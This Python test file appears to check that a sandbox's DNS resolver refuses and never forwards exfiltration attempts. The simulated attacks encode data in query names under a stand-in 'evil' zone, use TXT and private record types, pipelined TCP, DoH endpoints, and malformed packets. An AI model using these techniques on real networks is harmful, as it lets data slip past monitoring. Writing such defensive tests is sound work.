"""DNS exfiltration (SPEC §5: the sandbox resolver answers only names the policy lets out and
never forwards a refused name upstream). The attacker inside a real sandbox encodes data in
query names under a zone the policy refuses, in record types nobody polices, over TCP, or asks
for DNS-over-HTTPS endpoints to get a resolver of its own.

Every probe asserts the answer the sandbox gets (REFUSED for refused names; no forwarding of
types other than A) and, through the e2e DNSServer that plays the upstream resolver and records
every query it receives, that the refused names (and every non-A type) never reached it. Each
test has a control query that must reach the upstream, so "nothing arrived" means something.

Each test uses names with its own nonce: the DNSServer is shared by the session.

How we know these can fail: with the deny_list removed from the policy (a scratch edit) 12 of
the 15 probes failed on both the answer and the upstream record (the other three refuse without
the list: ANY, the DoH policy, malformed names); the malformed-name probe failed against a scratch
build whose dns_msg.c let '.' through inside a label; the DoH probe has its own control (the same
name under a policy that names it does reach the upstream).
"""
import os
import secrets

import pytest

from attacklib import (RCODE_FORMERR, RCODE_NOERROR, RCODE_NOTIMP, RCODE_REFUSED, ROOT_ONLY_REASON,
                       dns_script, run_python)

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason=ROOT_ONLY_REASON)

DENY_ZONE = {"access_control": {"deny_list": ["evil.example.test", "*.evil.example.test"]}}


def upstream_names(stack, nonce):
    return [(n, t) for n, t in list(stack.dns.queries) if nonce in n]


def long_names(nonce):
    """Exfiltration-shaped names under the denied zone: maximal labels, many labels, data-like."""
    data = secrets.token_hex(31)  # 62 hex characters
    return [
        "%s.%s.%s.evil.example.test" % (data, data[::-1], nonce),
        ".".join(["a%s" % nonce] + ["x"] * 100) + ".evil.example.test",  # 100+ labels, ~230 chars
        "%s-%s.EVIL.Example.TEST" % (nonce, secrets.token_hex(20)),       # letter case
        "%s_%s.evil.example.test" % (nonce, secrets.token_hex(8)),         # underscore
        "%s.evil.example.test" % ("z" * 63),                               # no nonce: checked below
    ]


def test_long_and_random_labels_under_a_denied_zone_are_refused_and_never_forwarded(stack):
    nonce = secrets.token_hex(4)
    ok = "ok-%s.example.test" % nonce
    stack.dns.add_a(ok, "203.0.113.50")
    names = long_names(nonce)
    script = dns_script(r'''
ns = resolver()
OUT["names"] = [udp_dns(ns, dns_query(n, 1)) for n in %r]
OUT["control"] = udp_dns(ns, dns_query(%r, 1))
''' % (names, ok))
    out = run_python(stack, script, DENY_ZONE).results()
    for n, r in zip(names, out["names"]):
        assert r["rcode"] == RCODE_REFUSED and r["answers"] == 0, (n, r)
    assert out["control"]["rcode"] == RCODE_NOERROR and out["control"]["answers"] == 1, out
    seen = upstream_names(stack, nonce)
    assert seen == [(ok, 1)], "only the allowed control may reach the upstream: %r" % seen
    assert not [q for q in stack.dns.queries if "evil" in q[0]]


@pytest.mark.parametrize("qtype", ["TXT", "MX", "NS", "CNAME", "AAAA", "HTTPS", "SVCB", "ANY", 10, 99, 65280])
def test_record_types_other_than_a_are_never_forwarded(stack, qtype):
    """TXT (the classic exfiltration carrier), NULL (10), SPF (99), private-use types, ANY: for an
    allowed name answered locally without upstream, for a denied name refused."""
    from attacklib import QTYPES
    code = QTYPES.get(qtype, qtype) if isinstance(qtype, str) else qtype
    nonce = secrets.token_hex(4)
    allowed = "data-%s.example.test" % nonce
    denied = "data-%s.evil.example.test" % nonce
    stack.dns.add_a(allowed, "203.0.113.51")
    script = dns_script(r'''
ns = resolver()
OUT["allowed"] = udp_dns(ns, dns_query(%r, %d))
OUT["denied"] = udp_dns(ns, dns_query(%r, %d))
OUT["control"] = udp_dns(ns, dns_query(%r, 1))
''' % (allowed, code, denied, code, allowed))
    out = run_python(stack, script, DENY_ZONE).results()
    assert out["denied"]["rcode"] == RCODE_REFUSED, out
    want = (RCODE_REFUSED,) if qtype == "ANY" else (RCODE_NOERROR,)
    assert out["allowed"]["rcode"] in want and out["allowed"]["answers"] == 0, out
    assert out["control"]["answers"] == 1, out
    assert upstream_names(stack, nonce) == [(allowed, 1)], upstream_names(stack, nonce)


def test_dns_over_tcp_is_policed_the_same(stack):
    """RFC 7766 TCP: several queries pipelined on one connection (denied long names, TXT, an
    allowed A), and a second connection to an address that is not the configured resolver (all
    port 53 goes to authproxy's resolver)."""
    nonce = secrets.token_hex(4)
    ok = "tcp-%s.example.test" % nonce
    stack.dns.add_a(ok, "203.0.113.52")
    names = long_names(nonce)[:3]
    script = dns_script(r'''
ns = resolver()
msgs = [dns_query(n, 1, qid=i + 1) for i, n in enumerate(%r)]
msgs.append(dns_query(%r, 16, qid=50))
msgs.append(dns_query(%r, 1, qid=51))
OUT["pipelined"] = sorted(tcp_dns(ns, msgs), key=lambda r: r.get("id", 0))
OUT["other_resolver"] = tcp_dns("9.9.9.9", [dns_query(%r, 1, qid=7)])
''' % (names, ok, ok, names[0]))
    out = run_python(stack, script, DENY_ZONE).results()
    by_id = {r.get("id"): r for r in out["pipelined"]}
    for i in range(1, 4):
        assert by_id[i]["rcode"] == RCODE_REFUSED, out
    assert by_id[50]["rcode"] == RCODE_NOERROR and by_id[50]["answers"] == 0, out
    assert by_id[51]["rcode"] == RCODE_NOERROR and by_id[51]["answers"] == 1, out
    assert out["other_resolver"][0]["rcode"] == RCODE_REFUSED, out
    assert upstream_names(stack, nonce) == [(ok, 1)], upstream_names(stack, nonce)


DOH_NAMES = ["dns.google", "dns.google.com", "cloudflare-dns.com", "mozilla.cloudflare-dns.com",
             "one.one.one.one", "dns.quad9.net", "doh.opendns.com", "dns.nextdns.io",
             "doh.cleanbrowsing.org", "dns.adguard-dns.com"]
DOH_SCRIPT = r'''
ns = resolver()
OUT["dns"] = {n: udp_dns(ns, dns_query(n, 1)) for n in %r}
def https(ip, sni):
    ctx = ssl.create_default_context()
    s = socket.create_connection((ip, 443), timeout=5)
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(("GET /dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB HTTP/1.1\r\nHost: %%s\r\n\r\n" %% sni).encode())
        return t.recv(100).decode("latin-1")
    except OSError as e:
        return err(e)
    finally:
        s.close()
OUT["https"] = {"dns.google": https("8.8.8.8", "dns.google"),
                "cloudflare-dns.com": https("1.1.1.1", "cloudflare-dns.com")}
'''


def test_doh_endpoints_by_name_are_refused_unless_the_policy_names_them(stack):
    """Under an allow_list, DoH resolvers are refused by name, over DNS and over HTTPS (dialled at
    their well-known addresses: capture routes by SNI, so the address does not help). Under a
    policy without an allow_list every host is allowed (SPEC §3), DoH included; that is the
    policy's choice, not an exfiltration path of DNS. The control: with the DoH names in the
    allow_list their DNS queries do reach the upstream, so the refusal is the policy's."""
    policy = {"access_control": {"allow_list": ["api.example.test"]}}
    run = run_python(stack, dns_script(DOH_SCRIPT % DOH_NAMES), policy)
    out = run.results()
    for n in DOH_NAMES:
        assert out["dns"][n]["rcode"] == RCODE_REFUSED, (n, out["dns"][n])
    for n, r in out["https"].items():
        assert not r.startswith("HTTP/"), (n, r)
    assert not [q for q in stack.dns.queries if q[0] in DOH_NAMES], stack.dns.queries
    denied = {r["host"] for r in run.audit_records() if r["decision"] == "denied"}
    assert {"dns.google", "cloudflare-dns.com"} <= denied, denied

    named = {"access_control": {"allow_list": ["api.example.test", "dns.google"]}}
    out = run_python(stack, dns_script(r'''
OUT["dns"] = udp_dns(resolver(), dns_query("dns.google", 1))
'''), named).results()
    assert out["dns"]["rcode"] != RCODE_REFUSED, out  # NXDOMAIN from the test upstream
    assert ("dns.google", 1) in stack.dns.queries


def test_malformed_and_disguised_names_are_refused_and_never_forwarded(stack):
    """Names that are not host names, or that a text conversion could read as another name: a dot
    or NUL inside a label, a question for an IP literal, the root, two questions (one denied),
    a compression loop, a message marked as a response. None reaches the upstream; the resolver
    still answers a good query afterwards."""
    nonce = secrets.token_hex(4)
    ok = "after-%s.example.test" % nonce
    stack.dns.add_a(ok, "203.0.113.53")
    script = dns_script(r'''
ns = resolver()
n = %r
def raw(msg):
    r = udp_dns(ns, msg, timeout=1.5)
    return r
q = lambda labels, t=1: dns_query(None, t, labels=labels)
OUT["dot_in_label"] = raw(q([("x-" + n + ".evil").encode(), b"example", b"test"]))
OUT["dot_in_label_allowed_look"] = raw(q([("ok-" + n).encode(), b"example.test"]))
OUT["nul_in_label"] = raw(q([("x-" + n).encode() + b"\x00evil", b"example", b"test"]))
OUT["space_in_label"] = raw(q([("x " + n).encode(), b"example", b"test"]))
OUT["star_label"] = raw(q([b"*", ("s-" + n).encode(), b"example", b"test"]))
OUT["ip_literal"] = raw(q([b"127", b"0", b"0", b"1"]))
OUT["root"] = raw(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01")
two = dns_query(("a-" + n + ".example.test"), 1)
second = dns_query(("b-" + n + ".evil.example.test"), 1)[12:]
OUT["two_questions"] = raw(two[:4] + b"\x00\x02" + two[6:] + second)
loop = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\xc0\x0c" + b"\x00\x01\x00\x01"
OUT["compression_loop"] = raw(loop)
resp = bytearray(dns_query(("r-" + n + ".example.test"), 1)); resp[2] |= 0x80
OUT["response_bit"] = raw(bytes(resp))
OUT["oversized"] = raw(dns_query(("o-" + n + ".example.test"), 1) + b"\x00" * 5000)
OUT["after"] = raw(dns_query(%r, 1))
''' % (nonce, ok))
    out = run_python(stack, script, DENY_ZONE).results()
    for k in ("dot_in_label", "dot_in_label_allowed_look", "nul_in_label", "space_in_label",
              "star_label", "ip_literal", "root", "two_questions", "compression_loop"):
        assert out[k]["rcode"] in (RCODE_REFUSED, RCODE_FORMERR, RCODE_NOTIMP) and \
            out[k]["answers"] == 0, (k, out[k])
    for k in ("response_bit", "oversized"):  # dropped without an answer, or refused
        assert out[k]["rcode"] in (None, RCODE_FORMERR, RCODE_REFUSED), (k, out[k])
    assert out["after"]["rcode"] == RCODE_NOERROR and out["after"]["answers"] == 1, out
    assert upstream_names(stack, nonce) == [(ok, 1)], upstream_names(stack, nonce)
    assert not [q for q in stack.dns.queries if q[0] in ("127.0.0.1", "1.0.0.127.in-addr.arpa")]
